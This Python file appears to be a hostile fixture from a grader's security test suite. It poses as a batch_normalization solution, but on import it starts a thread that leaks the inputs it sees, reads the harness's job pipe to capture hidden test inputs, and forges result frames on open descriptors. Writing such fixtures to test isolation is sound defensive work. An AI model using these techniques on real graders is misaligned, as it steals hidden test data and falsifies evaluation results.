"""Hostile: hidden inputs into the visible results of the same process.  The hidden
cases run in the process that ran the visible ones, after them, so this file keeps a
thread running from its import on: it prints whatever inputs the function saw last,
on stdout and stderr, tries to read the job pipe before the worker does, and once it
has read something there, forges "call" frames carrying it on every descriptor it
can write (as if visible calls were answering late).  The function returns zeros.
"""

import json
import os
import struct
import sys
import threading
import time

import numpy as np


from _recon import *  # noqa: F403  (the test harness inlines tests/security/hostile/_recon.py here)


SEEN = ["nothing yet"]


def _frame(header):
    head = json.dumps(header).encode()
    return struct.pack("!4sIQ", b"NKSB", len(head), 0) + head


def _spy():
    while True:
        text = "LEAK " + SEEN[-1]
        for stream in (sys.__stdout__, sys.__stderr__):
            try:
                stream.write(text + "\n")
                stream.flush()
            except Exception:
                pass
        try:  # the job pipe: whatever is in it before the worker reads it
            os.set_blocking(4, False)
            data = os.read(4, 1 << 20)
            if data:
                SEEN.append("PIPE " + repr(data[:4000]))
        except OSError:
            pass
        if len(SEEN) > 1 and SEEN[-1].startswith("PIPE"):  # the hidden job has come
            for index in range(32):
                forged = _frame({"type": "call", "index": index, "status": "exception",
                                 "exception": {"type": "ValueError", "message": text}})
                for fd in range(3, 8):
                    try:
                        os.write(fd, forged)
                    except OSError:
                        pass
        time.sleep(0.0005)


threading.Thread(target=_spy, daemon=True).start()


def batch_normalization(X, gamma, beta, epsilon=1e-5):
    SEEN.append(repr(gamma.tolist()) + repr(beta.tolist()) + repr(X.shape))
    time.sleep(0.002)  # the spy gets its turn while these inputs are the last ones
    return np.zeros_like(X)
